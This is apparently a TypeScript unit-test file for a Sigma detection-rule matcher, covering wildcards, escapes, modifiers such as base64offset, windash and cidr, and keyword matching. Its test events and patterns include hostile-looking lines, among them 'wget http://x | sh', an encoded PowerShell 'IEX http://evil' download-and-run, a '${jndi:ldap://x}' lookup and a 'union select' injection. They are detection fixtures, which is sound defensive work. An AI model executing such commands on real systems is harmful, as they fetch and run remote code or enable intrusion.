import { SigmaError } from './sigma-error.js';
import {
  ABSENT,
  base64Encode,
  base64OffsetVariants,
  compileFieldEntry,
  compileKeywords,
  encodeText,
  parseIp,
  parseSigmaString,
  type FieldLookup,
} from './sigma-value.js';

const has = (value: unknown): FieldLookup => ({ present: true, value });

/** Whether `key: value` matches an event field holding `eventValue` (or a missing field). */
function matches(key: string, value: unknown, eventValue: unknown): boolean {
  return compileFieldEntry(key, value).test(eventValue === ABSENT ? ABSENT : has(eventValue));
}

function refusal(run: () => unknown): SigmaError {
  try {
    run();
  } catch (error) {
    if (error instanceof SigmaError) return error;
    throw error;
  }
  throw new Error('expected a SigmaError');
}

describe('Sigma strings: wildcards and escapes (specification, "Escaping")', () => {
  it('reads * and ? as wildcards, and a backslash escapes *, ? and itself only', () => {
    expect(parseSigmaString('C:\\Windows\\\\*.exe')).toEqual([{ kind: 'text', text: 'C:\\Windows\\' }, { kind: 'any' }, { kind: 'text', text: '.exe' }]);
    // a single backslash before a wildcard escapes it
    expect(parseSigmaString('C:\\Windows\\*.exe')).toEqual([{ kind: 'text', text: 'C:\\Windows*.exe' }]);
    expect(parseSigmaString('a\\*b\\?c')).toEqual([{ kind: 'text', text: 'a*b?c' }]);
    // \\* : a backslash followed by a wildcard; \\\* : a backslash and a star, both plain
    expect(parseSigmaString('a\\\\*')).toEqual([{ kind: 'text', text: 'a\\' }, { kind: 'any' }]);
    expect(parseSigmaString('a\\\\\\*')).toEqual([{ kind: 'text', text: 'a\\*' }]);
    // three or four backslashes are a double backslash
    expect(parseSigmaString('\\\\\\\\server')).toEqual([{ kind: 'text', text: '\\\\server' }]);
    expect(parseSigmaString('\\\\\\server')).toEqual([{ kind: 'text', text: '\\\\server' }]);
    expect(parseSigmaString('prog?.exe')).toEqual([{ kind: 'text', text: 'prog' }, { kind: 'one' }, { kind: 'text', text: '.exe' }]);
  });

  it('matches whole values, case-insensitively, with wildcards', () => {
    expect(matches('Image', 'C:\\Windows\\System32\\CMD.exe', 'c:\\windows\\system32\\cmd.EXE')).toBe(true);
    expect(matches('Image', 'cmd.exe', 'C:\\Windows\\System32\\cmd.exe')).toBe(false);
    expect(matches('Image', '*\\cmd.exe', 'C:\\Windows\\System32\\cmd.exe')).toBe(true);
    expect(matches('Image', 'prog?.exe', 'progA.exe')).toBe(true);
    expect(matches('Image', 'prog?.exe', 'prog.exe')).toBe(false);
    expect(matches('Image', 'prog\\?.exe', 'progA.exe')).toBe(false);
    expect(matches('Image', 'prog\\?.exe', 'prog?.exe')).toBe(true);
    expect(matches('CommandLine', 'a*b', 'a\nline\nb')).toBe(true);
  });

  it('treats regular-expression characters in values as plain text', () => {
    expect(matches('CommandLine', '(x)+[y].$', '(x)+[y].$')).toBe(true);
    expect(matches('CommandLine', '(x)+[y].$', 'xxy.')).toBe(false);
  });
});

describe('field values', () => {
  it('links a list of values with OR, and with AND under |all', () => {
    expect(matches('Image|endswith', ['\\a.exe', '\\b.exe'], 'C:\\b.exe')).toBe(true);
    expect(matches('CommandLine|contains|all', ['/bin/java', 'tomcat'], '/usr/bin/java -Dcatalina.base=/opt/tomcat')).toBe(true);
    expect(matches('CommandLine|contains|all', ['/bin/java', 'tomcat'], '/usr/bin/java -jar app.jar')).toBe(false);
  });

  it('compares numbers and strings by their text', () => {
    expect(matches('sc-status', 404, 404)).toBe(true);
    expect(matches('sc-status', 404, '404')).toBe(true);
    expect(matches('EventID', '1', 1)).toBe(true);
    expect(matches('sc-status', 404, 4040)).toBe(false);
    expect(matches('Initiated', true, 'True')).toBe(true);
  });

  it('matches null on a missing or null field, and an empty string only on an empty field', () => {
    expect(matches('PasswordLastSet', null, ABSENT)).toBe(true);
    expect(matches('PasswordLastSet', null, null)).toBe(true);
    expect(matches('PasswordLastSet', null, '')).toBe(false);
    expect(matches('PasswordLastSet', '', '')).toBe(true);
    expect(matches('PasswordLastSet', '', ABSENT)).toBe(false);
    expect(matches('Image', ['x', null], ABSENT)).toBe(true);
  });

  it('never matches a missing field with a value, even under a wildcard', () => {
    expect(matches('Image', '*', ABSENT)).toBe(false);
    expect(matches('Image|contains', '', ABSENT)).toBe(false);
  });

  it('matches a list-valued event field when one item matches (ECS)', () => {
    expect(matches('event.category', 'process', ['process', 'host'])).toBe(true);
    expect(matches('event.category', 'file', ['process', 'host'])).toBe(false);
  });

  it('does not compare maps', () => {
    expect(matches('Data', '*', { a: 1 })).toBe(false);
  });
});

describe('modifiers', () => {
  it('contains, startswith and endswith anchor the value; cased makes them case-sensitive', () => {
    expect(matches('CommandLine|contains', 'WHOAMI', 'cmd /c whoami /all')).toBe(true);
    expect(matches('CommandLine|startswith', 'cmd', 'CMD /c whoami')).toBe(true);
    expect(matches('CommandLine|startswith', 'whoami', 'cmd /c whoami')).toBe(false);
    expect(matches('Image|endswith', '\\W3WP.exe', 'c:\\windows\\system32\\inetsrv\\w3wp.exe')).toBe(true);
    expect(matches('Image|endswith', '\\w3wp', 'c:\\w3wp.exe')).toBe(false);
    expect(matches('CommandLine|contains|cased', 'WHOAMI', 'cmd /c whoami')).toBe(false);
    expect(matches('CommandLine|contains|cased', 'whoami', 'cmd /c whoami')).toBe(true);
    expect(matches('CommandLine|contains', ' -e* JAB', 'powershell -enc JABzAD0A')).toBe(true);
  });

  it('re is a case-sensitive search; i, m and s are its sub-modifiers', () => {
    expect(matches('CommandLine|re', 'net\\s+user\\s+', 'cmd /c net  user admin')).toBe(true);
    expect(matches('CommandLine|re', 'net\\s+user\\s+', 'NET USER admin')).toBe(false);
    expect(matches('CommandLine|re|i', 'net\\s+user\\s+', 'NET USER admin')).toBe(true);
    expect(matches('CommandLine|re', '(?i)net\\s+user', 'NET USER admin')).toBe(true);
    expect(matches('CommandLine|re', '^b$', 'a\nb')).toBe(false);
    expect(matches('CommandLine|re|m', '^b$', 'a\nb')).toBe(true);
    expect(matches('CommandLine|re', 'a.b', 'a\nb')).toBe(false);
    expect(matches('CommandLine|re|s', 'a.b', 'a\nb')).toBe(true);
    expect(refusal(() => compileFieldEntry('CommandLine|re', '(unclosed')).code).toBe('SIGMA_INVALID_REGEX');
  });

  it('windash tries -, /, en dash, em dash and horizontal bar where a flag starts', () => {
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) {
      expect(matches('CommandLine|contains|windash', ' -enc ', `powershell ${dash}enc AAAA`)).toBe(true);
    }
    expect(matches('CommandLine|contains|windash', ' -enc ', 'powershell +enc AAAA')).toBe(false);
    // a dash inside a word is not a flag
    expect(matches('CommandLine|contains|windash', 'a-b', 'a/b')).toBe(false);
    expect(matches('CommandLine|windash|contains', '-d -s', '/d /s')).toBe(true);
    // every flag varies on its own ("all possible permutations")
    expect(matches('CommandLine|windash|contains', '-d -s', '/d -s')).toBe(true);
  });

  it('base64 encodes the value; utf16le/wide, utf16be and utf16 choose the bytes first', () => {
    expect(base64Encode(encodeText('http', 'utf8'))).toBe('aHR0cA==');
    expect(matches('Payload|base64', 'http', 'aHR0cA==')).toBe(true);
    expect(matches('Payload|base64|contains', 'http', 'xxaHR0cA==xx')).toBe(true);
    expect(Array.from(encodeText('cmd', 'utf16le'))).toEqual([0x63, 0, 0x6d, 0, 0x64, 0]);
    expect(Array.from(encodeText('cmd', 'utf16be'))).toEqual([0, 0x63, 0, 0x6d, 0, 0x64]);
    expect(Array.from(encodeText('cmd', 'utf16'))).toEqual([0xff, 0xfe, 0x63, 0, 0x6d, 0, 0x64, 0]);
    expect(matches('Payload|wide|base64', 'cmd', 'YwBtAGQA')).toBe(true);
  });

  it('base64offset gives the three shifted encodings (the specification example for http://)', () => {
    expect(base64OffsetVariants(encodeText('http://', 'utf8'))).toEqual(['aHR0cDovL', 'h0dHA6Ly', 'odHRwOi8v']);
    expect(base64OffsetVariants(encodeText('cmd', 'utf16le'))).toEqual(['YwBtAGQA', 'MAbQBkA', 'jAG0AZA']);
    expect(base64OffsetVariants(encodeText('a', 'utf8'))).toEqual(['Y', 'h']);
    // the encodings Sigma's own converter printed for "IEX ([", and those a SigmaHQ rule lists for
    // "::FromBase64String" in UTF-16LE
    expect(base64OffsetVariants(encodeText('IEX ([', 'utf8'))).toEqual(['SUVYIChb', 'lFWCAoW', 'JRVggKF']);
    expect(base64OffsetVariants(encodeText('::FromBase64String', 'utf16le'))).toEqual([
      'OgA6AEYAcgBvAG0AQgBhAHMAZQA2ADQAUwB0AHIAaQBuAGcA',
      'oAOgBGAHIAbwBtAEIAYQBzAGUANgA0AFMAdAByAGkAbgBnA',
      '6ADoARgByAG8AbQBCAGEAcwBlADYANABTAHQAcgBpAG4AZw',
    ]);
    // "xhttp://" and "xyhttp://" put http:// at byte offsets 1 and 2
    for (const text of ['http://evil', 'xhttp://evil', 'xyhttp://evil']) {
      const encoded = base64Encode(encodeText(`IEX ${text}`, 'utf8'));
      expect(matches('CommandLine|base64offset|contains', 'http://', `powershell -enc ${encoded}`)).toBe(true);
    }
    expect(matches('CommandLine|base64offset|contains', 'http://', `powershell -enc ${base64Encode(encodeText('ftp://x', 'utf8'))}`)).toBe(false);
    const wide = base64Encode(encodeText('IEX (New-Object Net.WebClient)', 'utf16le'));
    expect(matches('CommandLine|wide|base64offset|contains', 'Net.WebClient', wide)).toBe(true);
  });

  it('cidr matches IPv4 and IPv6 networks', () => {
    expect(matches('DestinationIp|cidr', '10.0.0.0/8', '10.20.30.40')).toBe(true);
    expect(matches('DestinationIp|cidr', '10.0.0.0/8', '11.0.0.1')).toBe(false);
    expect(matches('DestinationIp|cidr', ['192.168.0.0/16', '172.16.0.0/12'], '172.31.255.255')).toBe(true);
    expect(matches('DestinationIp|cidr', '192.168.1.7/32', '192.168.1.7')).toBe(true);
    expect(matches('DestinationIp|cidr', 'fe80::/10', 'fe80::1%12')).toBe(true);
    expect(matches('DestinationIp|cidr', '2001:db8::/32', '2001:db8:0:1::5')).toBe(true);
    expect(matches('DestinationIp|cidr', '2001:db8::/32', '2001:db9::5')).toBe(false);
    expect(matches('DestinationIp|cidr', '10.0.0.0/8', 'not an ip')).toBe(false);
    expect(matches('DestinationIp|cidr', '::ffff:0:0/96', '::ffff:10.0.0.1')).toBe(true);
    expect(parseIp('1.2.3')).toBeUndefined();
    expect(parseIp('1:2:3:4:5:6:7:8:9')).toBeUndefined();
    expect(refusal(() => compileFieldEntry('DestinationIp|cidr', '10.0.0.0/33')).code).toBe('SIGMA_INVALID_MODIFIER');
    expect(refusal(() => compileFieldEntry('DestinationIp|cidr', 10)).code).toBe('SIGMA_INVALID_MODIFIER');
  });

  it('exists checks presence, whatever the value', () => {
    expect(matches('PasswordLastSet|exists', true, null)).toBe(true);
    expect(matches('PasswordLastSet|exists', true, ABSENT)).toBe(false);
    expect(matches('PasswordLastSet|exists', false, ABSENT)).toBe(true);
    expect(refusal(() => compileFieldEntry('X|exists', 'yes')).code).toBe('SIGMA_INVALID_MODIFIER');
  });

  it('lt, lte, gt and gte compare numbers (numeric strings too)', () => {
    expect(matches('Port|lt', 1024, 80)).toBe(true);
    expect(matches('Port|lt', 1024, '1024')).toBe(false);
    expect(matches('Port|lte', 1024, '1024')).toBe(true);
    expect(matches('Port|gt', 1024, 8080)).toBe(true);
    expect(matches('Port|gte', 1024, 'abc')).toBe(false);
    expect(refusal(() => compileFieldEntry('Port|gt', '10')).code).toBe('SIGMA_INVALID_MODIFIER');
  });
});

describe('refusals', () => {
  it('refuses the modifiers it does not implement by name (SIGMA_UNSUPPORTED)', () => {
    for (const modifier of ['expand', 'fieldref', 'neq', 'minute', 'hour', 'day', 'week', 'month', 'year']) {
      const error = refusal(() => compileFieldEntry(`Field|${modifier}`, 'x'));
      expect(error.code).toBe('SIGMA_UNSUPPORTED');
      expect(error.feature).toBe(`modifier ${modifier}`);
      expect(error.message).toContain(modifier);
    }
  });

  it('refuses unknown modifiers and contradictory ones', () => {
    expect(refusal(() => compileFieldEntry('Field|containz', 'x')).code).toBe('SIGMA_UNKNOWN_MODIFIER');
    expect(refusal(() => compileFieldEntry('Field|re|contains', 'x')).code).toBe('SIGMA_INVALID_MODIFIER');
    expect(refusal(() => compileFieldEntry('Field|contains|i', 'x')).code).toBe('SIGMA_INVALID_MODIFIER');
    expect(refusal(() => compileFieldEntry('Field|wide|contains', 'x')).code).toBe('SIGMA_INVALID_MODIFIER');
    expect(refusal(() => compileFieldEntry('Field|base64|base64offset', 'x')).code).toBe('SIGMA_INVALID_MODIFIER');
    expect(refusal(() => compileFieldEntry('Field|base64offset|contains', 'a*b')).code).toBe('SIGMA_INVALID_MODIFIER');
    expect(refusal(() => compileFieldEntry('Field|cidr|windash', '10.0.0.0/8')).code).toBe('SIGMA_INVALID_MODIFIER');
    expect(refusal(() => compileFieldEntry('Field|contains', null)).code).toBe('SIGMA_INVALID_MODIFIER');
  });

  it('refuses values that are not scalars, and empty lists', () => {
    expect(refusal(() => compileFieldEntry('Field', { a: 1 })).code).toBe('SIGMA_INVALID_DETECTION');
    expect(refusal(() => compileFieldEntry('Field', [])).code).toBe('SIGMA_INVALID_DETECTION');
  });
});

describe('keywords', () => {
  it('finds a keyword anywhere in any string of the event, case-insensitively', () => {
    const test = compileKeywords('', ['UNION SELECT', '@@version']);
    expect(test(['GET', '/index.php?id=1 union select 1,2'])).toBe(true);
    expect(test(['GET', '/index.php?id=1'])).toBe(false);
  });

  it('|all needs every keyword, each in any string', () => {
    const test = compileKeywords('|all', ['OabVirtualDirectory', ' -ExternalUrl ']);
    expect(test(['Set-OabVirtualDirectory', 'x -ExternalUrl https://evil'])).toBe(true);
    expect(test(['Set-OabVirtualDirectory'])).toBe(false);
  });

  it('keeps wildcards and re inside keywords, and refuses field-only modifiers', () => {
    expect(compileKeywords('', ['wget * | sh'])(['wget http://x | sh'])).toBe(true);
    expect(compileKeywords('|re', ['j.di:'])(['${jndi:ldap://x}'])).toBe(true);
    expect(refusal(() => compileKeywords('|cidr', ['10.0.0.0/8'])).code).toBe('SIGMA_INVALID_MODIFIER');
  });
});
